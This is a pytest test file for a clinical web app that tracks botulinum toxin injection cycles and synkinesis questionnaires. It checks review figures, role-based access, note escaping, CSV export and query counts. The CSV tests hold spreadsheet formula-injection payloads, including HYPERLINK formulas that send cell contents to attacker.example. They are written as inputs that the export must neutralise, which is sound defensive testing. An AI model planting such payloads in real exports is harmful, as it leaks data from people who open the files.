"""Progress pages: My progress, the therapist's view, the reinjection review, CSV, speed."""

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest
from sqlalchemy import event, func, select

from benchmarks.review_data import add_history
from retrain.extensions import db
from retrain.models import (
    InjectionSite,
    InjectionVisit,
    PatientNote,
    PracticeSession,
    QuestionnaireResponse,
    ReinjectionDecision,
)
from retrain.usecases.local_time import patient_today

from ..conftest import csrf_from, post_form
from .practice_helpers import make_exercise, make_programme


def add_saq(patient_id, day, score):
    db.session.add(
        QuestionnaireResponse(
            patient_id=patient_id, instrument="saq", answered_on=day, answers=[3] * 9, score=score
        )
    )


def add_visit(patient_id, day, product="onabotulinumtoxinA", sites=(("mentalis", "left", 2.0),)):
    db.session.add(
        InjectionVisit(
            patient_id=patient_id,
            injected_on=day,
            product=product,
            sites=[InjectionSite(muscle=m, side=s, units=u) for m, s, u in sites],
        )
    )


def add_rating(patient_id, day, rating):
    db.session.add(
        PracticeSession(
            patient_id=patient_id,
            performed_at=datetime(day.year, day.month, day.day, 12, tzinfo=UTC),
            effort=3,
            synkinesis_rating=rating,
        )
    )


def known_record(patient_id):
    """Two cycles with known answers (docs/progress.md's worked example for cycle 1).

    Cycle 1 (today-200): baseline 70 (day -5), best 40 on day 21, response 30 (43 %),
    wear-off day 89 (45 on day 70, 60 on day 98: 70 + 10/15 x 28 = 88.67).
    Cycle 2 (today-100, open): baseline 60 (day -2), best 35 on day 14, response 25
    (42 %), wear-off 14 + 12.5/15 x 46 = 52.33 -> day 52. Today is day 100.
    """
    today = patient_today(patient_id)
    v1, v2 = today - timedelta(days=200), today - timedelta(days=100)
    add_visit(
        patient_id, v1, sites=[("orbicularis oculi", "left", 5.0), ("mentalis", "right", 2.0)]
    )
    add_visit(patient_id, v2, product="incobotulinumtoxinA", sites=[("platysma", "left", 6.0)])
    for day, score in ((-5, 70.0), (21, 40.0), (70, 45.0), (98, 60.0)):
        add_saq(patient_id, v1 + timedelta(days=day), score)
    for day, score in ((14, 35.0), (60, 50.0)):
        add_saq(patient_id, v2 + timedelta(days=day), score)
    for day in range(-10, 0):
        add_rating(patient_id, today + timedelta(days=day), 4)
    db.session.commit()
    return today, v1, v2


@pytest.fixture
def team(factories):
    therapist = factories.make_user("therapist", name="Theo Rapist")
    clinician = factories.make_user("clinician", name="Dr Ada Clin")
    patient = factories.make_patient(care_team=[therapist, clinician], name="Pat Palsy")
    return therapist, clinician, patient


def login_as(client, user):
    from ..conftest import login

    assert login(client, user.email).status_code == 302


def test_review_shows_the_known_figures(client, team):
    _, clinician, patient = team
    today, v1, v2 = known_record(patient.id)
    login_as(client, clinician)
    response = client.get(f"/patients/{patient.id}/review")
    assert response.status_code == 200
    html = response.get_data(as_text=True)
    # Cycle 1
    assert "70.0 (day -5)" in html and "40.0 (day 21)" in html
    assert "30.0 (43 %)" in html
    assert "day 89" in html
    # Cycle 2 (open)
    assert "60.0 (day -2)" in html and "35.0 (day 14)" in html
    assert "25.0 (42 %)" in html and "day 52" in html
    # Now
    assert "Wearing off" in html
    assert '<span class="big-number">100</span>' in html
    assert "50.0 on" in html and "10.0 points lower than the baseline of 60.0: within" in html
    # The projection needs two earlier wear-off days: says why not.
    assert "Only 1 earlier cycle has a measured wear-off day; a projection needs at least 2" in html
    # Doses per product, never added across products.
    assert "onabotulinumtoxinA (Botox), total 7 U" in html
    assert "incobotulinumtoxinA (Xeomin), total 6 U" in html
    assert "total 13 U" not in html
    # Every figure links to its definition on the page.
    for name in ("baseline", "best", "response", "wear-off", "phase", "projection", "rating"):
        assert f'href="#def-{name}"' in html and f'id="def-{name}"' in html
    # Charts: server-side SVG with title, desc and a data table; no inline styles.
    assert html.count('role="img"') >= 3
    assert "All cycles overlaid: SAQ by days since injection" in html
    assert '<desc id="overlay-chart-desc">' in html
    assert "The cycles&#39; SAQ points as a table" in html or "The cycles' SAQ points" in html
    assert "day 21: 40.0" in html  # overlay data table
    assert "style=" not in html
    # The clinician may decide and write notes.
    assert f'action="/patients/{patient.id}/decisions"' in html


def test_missing_figures_say_why(client, team):
    _, clinician, patient = team
    today = patient_today(patient.id)
    add_visit(patient.id, today - timedelta(days=3))
    db.session.commit()
    login_as(client, clinician)
    html = client.get(f"/patients/{patient.id}/review").get_data(as_text=True)
    assert "No SAQ in the 30 days before this injection." in html
    assert "Too early: the best is looked for from day 7." in html
    assert "Needs a baseline and a best." in html
    assert "This is the first recorded cycle" in html
    assert "No programme was prescribed during this cycle." in html
    assert "Starting to work" in html


def test_therapist_progress_view_has_adherence_and_rating_trend(client, team):
    therapist, _, patient = team
    today, _, _ = known_record(patient.id)
    make_programme(
        patient.id, [make_exercise()], starts_on=today - timedelta(days=30), times_per_day=1
    )
    login_as(client, therapist)
    html = client.get(f"/patients/{patient.id}/progress").get_data(as_text=True)
    assert "Adherence, last 28 days" in html
    # 10 sessions on the 10 days before today out of 27 prescribed so far (today not over).
    assert "37 % (10 of 27 sessions)" in html
    assert "Daily synkinesis rating: 7-day mean" in html
    assert "The rating trend as a table" in html
    assert "SAQ score over time" in html
    # A therapist cannot decide; the review is readable without the decision form.
    review = client.get(f"/patients/{patient.id}/review").get_data(as_text=True)
    assert "Record decision" not in review
    for page in (html, review):  # "What the figures mean" sends no one to our source files
        assert "What the figures mean" in page and "docs/" not in page and ".md" not in page
    token = csrf_from(review)
    response = client.post(
        f"/patients/{patient.id}/decisions",
        data={"decision": "reinject_now", "csrf_token": token},
    )
    assert response.status_code == 403
    assert db.session.scalar(select(func.count(ReinjectionDecision.id))) == 0


def test_patient_sees_my_progress_in_plain_words(client, team):
    _, _, patient = team
    today, _, v2 = known_record(patient.id)
    login_as(client, patient.user)
    html = client.get("/progress").get_data(as_text=True)
    assert "My progress" in html
    assert "Day 100" in html and "Wearing off" in html
    assert "Your exercises help keep the gains." in html
    # 10 points lower is within the SAQ's measurement noise: not called a good sign.
    assert "Your latest score is 50.0. Scores go up and down a little" in html
    assert "SAQ score over time" in html and "Injections are marked by dashed lines" in html
    assert "a number with a plus (2+) is an extra dose" in html  # the chart's marks explained
    assert "14 days after injection 2" in html and "Cycle 2, day 14" not in html
    assert f'href="/patients/{patient.id}/export.csv"' in html
    assert "Care-team notes" not in html and "Adherence" not in html
    # Staff pages are not for patients.
    assert client.get(f"/patients/{patient.id}/progress").status_code == 403
    assert client.get(f"/patients/{patient.id}/review").status_code == 403


def test_a_new_patient_sees_a_kind_empty_page(client, as_user):
    as_user("patient")
    html = client.get("/progress").get_data(as_text=True)
    assert "You have not filled in the synkinesis questionnaire yet." in html
    assert "No questionnaire answered yet." in html


def test_staff_off_the_team_get_404(client, as_user, factories, team):
    _, _, patient = team
    as_user("clinician")
    for url in ("progress", "review", "export.csv", "injections"):
        assert client.get(f"/patients/{patient.id}/{url}").status_code == 404
    token = csrf_from(client.get("/clinician/").get_data(as_text=True))
    for url, data in (
        ("notes", {"body": "Sneaky", "back": "review"}),
        ("decisions", {"decision": "reinject_now"}),
    ):
        response = client.post(f"/patients/{patient.id}/{url}", data={**data, "csrf_token": token})
        assert response.status_code == 404
    assert db.session.scalar(select(func.count(PatientNote.id))) == 0
    assert db.session.scalar(select(func.count(ReinjectionDecision.id))) == 0


def test_clinician_records_a_decision_kept_with_the_record(client, team):
    _, clinician, patient = team
    known_record(patient.id)
    login_as(client, clinician)
    url = f"/patients/{patient.id}/decisions"
    page = f"/patients/{patient.id}/review"
    today = patient_today(patient.id)

    response = post_form(client, url, {"decision": "wait_until", "wait_until": ""}, page=page)
    assert "Enter the date to wait until." in response.get_data(as_text=True)
    response = post_form(client, url, {"decision": "adjust_doses", "note": ""}, page=page)
    assert "Say which doses to change and how." in response.get_data(as_text=True)
    assert db.session.scalar(select(func.count(ReinjectionDecision.id))) == 0

    wait = today + timedelta(days=21)
    response = post_form(
        client,
        url,
        {"decision": "wait_until", "wait_until": wait.isoformat(), "note": "Still working."},
        page=page,
    )
    assert response.status_code == 302
    decision = db.session.scalar(select(ReinjectionDecision))
    assert (decision.decision, decision.wait_until, decision.note) == (
        "wait_until",
        wait,
        "Still working.",
    )
    assert decision.clinician_id == clinician.id and decision.decided_on == today
    html = client.get(page).get_data(as_text=True)
    assert "Wait until a date" in html and "Still working." in html and "Dr Ada Clin" in html


def test_notes_by_the_care_team(client, team):
    therapist, _, patient = team
    login_as(client, therapist)
    url = f"/patients/{patient.id}/notes"
    page = f"/patients/{patient.id}/progress"
    response = post_form(client, url, {"body": "   ", "back": "progress"}, page=page)
    assert "Write the note first." in response.get_data(as_text=True)
    response = post_form(
        client, url, {"body": "Smile practice <b>better</b>.", "back": "progress"}, page=page
    )
    assert response.status_code == 302
    assert response.headers["Location"].endswith(f"/patients/{patient.id}/progress#notes")
    html = client.get(f"/patients/{patient.id}/review").get_data(as_text=True)
    assert "Smile practice &lt;b&gt;better&lt;/b&gt;." in html and "Theo Rapist" in html


# --- CSV ---------------------------------------------------------------------------------------


def read_csv(response):
    return list(csv.DictReader(io.StringIO(response.get_data().decode("utf-8-sig"))))


def test_csv_export_for_the_care_team_and_the_patient(client, team, app):
    therapist, _, patient = team
    today, v1, _ = known_record(patient.id)
    db.session.add(
        PracticeSession(
            patient_id=patient.id,
            performed_at=datetime(today.year, today.month, today.day, 9, tzinfo=UTC)
            - timedelta(days=1),
            effort=2,
            synkinesis_rating=3,
            note='=HYPERLINK("http://evil.example","click")',
        )
    )
    db.session.commit()
    login_as(client, therapist)
    response = client.get(f"/patients/{patient.id}/export.csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"].startswith("attachment; filename=")
    assert response.headers["Cache-Control"] == "no-store"
    rows = read_csv(response)
    kinds = [row["kind"] for row in rows]
    assert (
        kinds.count("saq") == 6 and kinds.count("session") == 11 and kinds.count("injection") == 3
    )
    first_saq = next(row for row in rows if row["kind"] == "saq")
    assert first_saq["date"] == (v1 - timedelta(days=5)).isoformat()
    assert first_saq["score"] == "70"
    assert first_saq["answers"].startswith("eye_smile=3 eye_speak=3")
    injection = next(row for row in rows if row["kind"] == "injection")
    assert (injection["product"], injection["muscle"], injection["side"], injection["units"]) == (
        "onabotulinumtoxinA",
        "orbicularis oculi",
        "left",
        "5.0",
    )
    evil = next(row for row in rows if row["note"].startswith("'"))
    assert evil["note"] == '\'=HYPERLINK("http://evil.example","click")'

    patient_client = app.test_client()
    login_as(patient_client, patient.user)
    own = patient_client.get(f"/patients/{patient.id}/export.csv")
    assert own.status_code == 200 and len(read_csv(own)) == len(rows)


def test_patient_cannot_export_someone_else(client, as_user, team):
    _, _, other = team
    as_user("patient")
    assert client.get(f"/patients/{other.id}/export.csv").status_code == 404


# --- speed: a fixed number of queries ----------------------------------------------------------


class QueryCounter:
    def __init__(self, engine):
        self.engine = engine
        self.statements = []

    def __enter__(self):
        event.listen(self.engine, "before_cursor_execute", self._count)
        return self

    def __exit__(self, *exc):
        event.remove(self.engine, "before_cursor_execute", self._count)

    def _count(self, conn, cursor, statement, parameters, context, executemany):
        self.statements.append(statement)

    def __len__(self):
        return len(self.statements)


def review_queries(client, patient_id):
    client.get(f"/patients/{patient_id}/review")  # warm: login touch, caches
    with QueryCounter(db.engine) as counter:
        response = client.get(f"/patients/{patient_id}/review")
    assert response.status_code == 200
    return counter


def test_review_uses_the_same_few_queries_for_one_visit_or_five_years(client, factories, app):
    clinician = factories.make_user("clinician")
    small = factories.make_patient(care_team=[clinician])
    large = factories.make_patient(care_team=[clinician])
    today = patient_today(small.id)
    add_visit(small.id, today - timedelta(days=30))
    add_saq(small.id, today - timedelta(days=31), 60.0)
    add_saq(small.id, today - timedelta(days=10), 40.0)
    add_rating(small.id, today - timedelta(days=1), 4)
    db.session.commit()
    size = add_history(large.id, staff_id=clinician.id, today=today, years=5)
    assert size.sessions > 1700 and size.saqs >= 130 and size.visits == 18

    login_as(client, clinician)
    few = review_queries(client, small.id)
    many = review_queries(client, large.id)
    assert len(few) == len(many), (few.statements, many.statements)
    assert len(many) <= 15, many.statements
    html = client.get(f"/patients/{large.id}/review").get_data(as_text=True)
    assert "18: " in html  # the 18th cycle is listed


ATTACKS = (
    'felt ok;=HYPERLINK("http://attacker.example/?x="&A1,"open")',
    'felt ok\n=HYPERLINK("http://attacker.example/?x="&A1,"open")',
    "felt ok\r\n@SUM(1+1)*cmd",
    "felt ok;1+1",
    "ok\t-2+3",
    'ok; "=1+1"',
    "felt ok;=1+1",
)


def test_no_formula_can_start_anywhere_in_the_therapists_csv(client, team):
    """Issue 12 finding 3: a note with a formula after a separator or a line break."""
    from tests.spreadsheets import formula_cells, formula_starts

    therapist, _, patient = team
    for n, note in enumerate(ATTACKS):
        db.session.add(
            PracticeSession(
                patient_id=patient.id,
                performed_at=datetime(2026, 1, 5, 9, tzinfo=UTC) + timedelta(hours=n),
                effort=2,
                synkinesis_rating=3,
                note=note,
            )
        )
    db.session.commit()
    login_as(client, therapist)
    text = client.get(f"/patients/{patient.id}/export.csv").get_data().decode("utf-8-sig")
    assert formula_starts(text) == [] and formula_cells(text) == []
    notes = [row["note"] for row in csv.DictReader(io.StringIO(text))]
    assert notes[0] == 'felt ok;\'=HYPERLINK("http://attacker.example/?x="&A1,"open")'
    assert notes[1].startswith("felt ok\n'=HYPERLINK(")
